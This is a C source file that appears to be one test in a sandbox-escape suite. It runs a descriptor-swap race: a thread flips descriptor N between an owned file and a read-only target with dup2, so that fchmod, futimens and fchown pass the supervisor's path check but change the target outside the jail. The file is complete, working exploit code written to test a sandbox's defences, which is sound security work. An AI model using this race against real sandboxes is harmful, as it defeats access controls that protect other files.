/* e0210-fd-swap-fchmod - a descriptor swapped under a call on it.
 *
 * Attack: fchmod, futimens (utimensat with a NULL path) and fchown change
 * whatever file their descriptor number holds when the kernel runs them.
 * A supervisor judges such a call by the path the descriptor refers to
 * at its entry stop.  The program holds a file of its own (which it may
 * change) and a target outside the jail that it may only read; a sibling
 * thread puts each in turn at one descriptor number N (dup2), so that N
 * may be checked as the own file and changed as the target.  One round
 * per call, each with its own target, so that the evidence names the
 * call: the target's mode (fchmod to MODE), its mtime (futimens to
 * MTIME), its ctime (fchown to -1, -1: changes nothing but the ctime, so
 * no root is needed).
 * Source: janus team (calls on descriptors, doc/races.md; the fd-table
 * race of Watson 2007, "Exploiting concurrency vulnerabilities in system
 * call wrappers").
 * Usage: e0210-fd-swap-fchmod OWN CHMOD-TARGET UTIME-TARGET CHOWN-TARGET */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

#define N 40		/* the descriptor number both files take turns at */
#define MODE 0606	/* neither the target's 0644 nor the own file's */
#define MTIME 1000000000L	/* 2001-09-09, not the target's */

struct swap {
	int own, target;
	volatile int stop;
	long refused;	/* dup2 refused (the supervisor's guard: EBUSY) */
};

static void *swapper(void *arg)
{
	struct swap *s = arg;
	while (!s->stop) {
		if (dup2(s->own, N) < 0)
			s->refused++;
		if (dup2(s->target, N) < 0)
			s->refused++;
	}
	return NULL;
}

static int do_fchmod(int fd)
{
	return fchmod(fd, MODE);
}

static int do_futimens(int fd)
{
	const struct timespec t[2] = { { MTIME, 0 }, { MTIME, 0 } };
	return futimens(fd, t);
}

static int do_fchown(int fd)
{
	return fchown(fd, (uid_t)-1, (gid_t)-1);
}

static bool same_time(const struct timespec *a, const struct timespec *b)
{
	return a->tv_sec == b->tv_sec && a->tv_nsec == b->tv_nsec;
}

/* Whether the call changed the target: before and now are its stat. */
static bool mode_changed(const struct stat *before, const struct stat *now)
{
	return (before->st_mode & 07777) != (now->st_mode & 07777);
}

static bool mtime_changed(const struct stat *before, const struct stat *now)
{
	return !same_time(&before->st_mtim, &now->st_mtim);
}

static bool ctime_changed(const struct stat *before, const struct stat *now)
{
	return !same_time(&before->st_ctim, &now->st_ctim);
}

struct call {
	const char *name;
	int (*run)(int fd);
	bool (*changed)(const struct stat *before, const struct stat *now);
};

/* One race: the call on N while the swapper flips N between own and the
 * target (opened read-only), until the target changed or the race is
 * over; prints how it went. */
static void race(const struct call *c, int own, const char *target)
{
	struct swap s = { .own = own };
	s.target = open(target, O_RDONLY | O_CLOEXEC);
	if (s.target < 0) {
		printf("%s: %s: %s\n", c->name, target, esc_errno_name(errno));
		return;
	}
	struct stat before, now;
	if (fstat(s.target, &before) < 0)
		esc_die("fstat the target");
	if (dup2(own, N) < 0)
		esc_die("dup2");
	pthread_t t;
	if (pthread_create(&t, NULL, swapper, &s) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long ok = 0, refused = 0;
	int last = 0;
	bool changed = false;
	esc_race_init(&r);
	while (!changed && esc_race_go(&r)) {
		if (c->run(N) == 0) {
			ok++;
		} else {
			refused++;
			last = errno;
		}
		changed = fstat(s.target, &now) == 0 && c->changed(&before, &now);
	}
	s.stop = 1;
	pthread_join(t, NULL);
	printf("%s race: %ld tries, %ld ok, %ld refused%s%s, dup2 refused %ld times;"
	       " target changed: %s\n",
	       c->name, r.tries, ok, refused, refused ? ", last " : "",
	       refused ? esc_errno_name(last) : "", s.refused, changed ? "yes" : "no");
	close(N);
	close(s.target);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 5, "e0210-fd-swap-fchmod OWN CHMOD-TARGET UTIME-TARGET CHOWN-TARGET");
	static const struct call calls[] = {
		{ "fchmod", do_fchmod, mode_changed },
		{ "futimens", do_futimens, mtime_changed },
		{ "fchown", do_fchown, ctime_changed },
	};
	int own = open(argv[1], O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (own < 0)
		esc_die("open the own file");
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++)
		race(&calls[i], own, argv[2 + i]);
	return 0;
}
